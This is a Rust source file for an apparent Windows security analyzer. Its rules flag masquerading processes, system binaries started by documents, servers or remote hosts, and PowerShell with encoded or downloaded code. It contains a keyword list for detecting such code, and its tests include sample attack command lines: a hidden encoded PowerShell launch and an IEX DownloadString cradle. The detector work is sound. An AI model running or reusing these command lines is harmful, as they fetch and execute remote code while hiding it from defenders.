//! Rules about processes of Windows: borrowed names, and programs of the system that run what they are given.

use super::rules::{Reach, Verdict, by_reach};
use crate::analyze::programs::{
    GraveParent, Lolbin, borrows_system_name, grave_parent, lolbin, poses_as_document,
};
use crate::model::finding::Severity;
use crate::model::processes::Process;

/// What a command line of PowerShell has that is given code to hide it, or that runs what it downloads. In lower case.
const HIDDEN_OR_FETCHED_CODE: &[&str] = &[
    " -enc",
    " -ec ",
    " -e ",
    "frombase64string",
    "downloadstring",
    "downloaddata",
    "iex(",
    "iex (",
    "invoke-expression",
];

pub(super) fn system_name(process: &Process<'_>, reach: Reach) -> Option<Verdict> {
    borrows_system_name(process.exe?).then_some(Verdict {
        does: "masquerades as a Windows system program",
        why: "Windows keeps the program of this name in its own folder, and this one is somewhere else.",
        harmless_if: "A copy for analysis, or a program of another vendor with the same name.",
        severity: by_reach(reach, [Severity::Medium, Severity::High, Severity::High]),
        confidence: 0.85,
        attack: &["T1036.005"],
    })
}

pub(super) fn document_name(process: &Process<'_>, reach: Reach) -> Option<Verdict> {
    poses_as_document(process.exe?).then_some(Verdict {
        does: "is a program with the name of a document",
        why: "Windows hides the last ending of a file name, so that the user sees a document and starts a program.",
        harmless_if: "A tool that packs documents into a program, such as a self-extracting archive.",
        severity: by_reach(reach, [Severity::Medium, Severity::Medium, Severity::High]),
        confidence: 0.8,
        attack: &["T1036.007", "T1204.002"],
    })
}

/// What starts it makes the difference: administrators start these programs, too.
pub(super) fn proxied_execution(process: &Process<'_>, reach: Reach) -> Option<Verdict> {
    let kind = lolbin(process)?;
    if let Some(parent) = grave_parent(process).filter(|_| reach > Reach::Host) {
        return Some(Verdict {
            does: match parent {
                GraveParent::Document => "was started by a program for documents, and uses the network",
                GraveParent::Server => "was started by a server, and uses the network",
                GraveParent::Remote => "was started from another host, and uses the network",
            },
            why: match parent {
                GraveParent::Document => {
                    "It runs whatever it is given. An office program or a reader that starts it is \
                    what a malicious document looks like."
                }
                GraveParent::Server => {
                    "It runs whatever it is given. A web server or a database that starts it is what a \
                    web shell or an exploit looks like."
                }
                GraveParent::Remote => {
                    "It runs whatever it is given, and WMI, WinRM or PsExec had it started: what remote \
                    execution by an intruder looks like."
                }
            },
            harmless_if: "Add-ins and macros of the organization; management software that works through WMI or WinRM.",
            severity: by_reach(reach, [Severity::Low, Severity::Medium, Severity::High]),
            confidence: 0.8,
            attack: match parent {
                GraveParent::Document => &["T1218", "T1204.002"],
                GraveParent::Server => &["T1218", "T1505.003"],
                GraveParent::Remote => &["T1218", "T1047"],
            },
        });
    }
    // Printing and WebDAV run in rundll32, so that it connects now and then.
    let is_often_ordinary = process.program().eq_ignore_ascii_case("rundll32.exe");
    (kind == Lolbin::Proxy && reach == Reach::Beyond).then_some(Verdict {
        does: "is a Windows program that runs what it is given, and connects outside",
        why: "It is part of Windows and signed, and runs a library or script that it is given, which intruders use to get \
            past allow lists. On its own it hardly connects to the internet.",
        harmless_if: "Scripts of administrators; printers and WebDAV folders, which rundll32 connects to.",
        severity: if is_often_ordinary { Severity::Low } else { Severity::Medium },
        confidence: if is_often_ordinary { 0.4 } else { 0.6 },
        attack: &["T1218"],
    })
}

pub(super) fn hidden_code(process: &Process<'_>, reach: Reach) -> Option<Verdict> {
    lolbin(process)?;
    let name = process.program().to_ascii_lowercase();
    let is_powershell = name == "powershell.exe" || name == "pwsh.exe";
    let cmdline = process.cmdline.filter(|_| is_powershell && reach > Reach::Host)?.to_ascii_lowercase();
    HIDDEN_OR_FETCHED_CODE.iter().any(|mark| cmdline.contains(mark)).then_some(Verdict {
        does: "runs encoded or downloaded code and owns a connection",
        why: "The command line gives PowerShell code that is encoded, or has it run what it downloads. Nothing of it is in a file.",
        harmless_if: "Management software and installers (Chocolatey, Ansible, Intune) start PowerShell this way.",
        severity: by_reach(reach, [Severity::Low, Severity::Medium, Severity::High]),
        confidence: 0.7,
        attack: &["T1059.001", "T1027"],
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    fn started<'a>(exe: &'a str, cmdline: &'a str, parent: &'a str) -> Process<'a> {
        Process { exe: Some(exe), cmdline: Some(cmdline), parent_name: Some(parent), ..Process::default() }
    }

    fn severity(verdict: Option<Verdict>) -> Option<Severity> {
        verdict.map(|verdict| verdict.severity)
    }

    #[test]
    fn a_script_host_that_connects_outside_is_found_and_graver_by_its_parent() {
        let of = |exe, parent, reach| severity(proxied_execution(&started(exe, "", parent), reach));
        let wscript = r"C:\Windows\System32\wscript.exe";
        assert_eq!(of(wscript, "explorer.exe", Reach::Beyond), Some(Severity::Medium));
        assert_eq!(of(wscript, "explorer.exe", Reach::LocalNetworks), None);
        assert_eq!(of(wscript, "WINWORD.EXE", Reach::Beyond), Some(Severity::High));
        assert_eq!(
            of(r"C:\Windows\System32\rundll32.exe", "svchost.exe", Reach::Beyond),
            Some(Severity::Low)
        );
        assert_eq!(of(POWERSHELL, "explorer.exe", Reach::Beyond), None);
        assert_eq!(of(POWERSHELL, "w3wp.exe", Reach::LocalNetworks), Some(Severity::Medium));
    }

    #[test]
    fn code_on_the_command_line_is_found_where_it_is_hidden_or_fetched() {
        let of =
            |cmdline| severity(hidden_code(&started(POWERSHELL, cmdline, "explorer.exe"), Reach::Beyond));
        assert_eq!(of("powershell -nop -w hidden -enc SQBFAFgA"), Some(Severity::High));
        assert_eq!(
            of("powershell IEX(New-Object Net.WebClient).DownloadString('http://x')"),
            Some(Severity::High)
        );
        assert_eq!(of(r"powershell -ExecutionPolicy Bypass -File C:\it\inventory.ps1"), None);
        assert_eq!(
            severity(hidden_code(
                &started(r"C:\Windows\System32\curl.exe", "curl -e x", "cmd.exe"),
                Reach::Beyond
            )),
            None
        );
    }
}
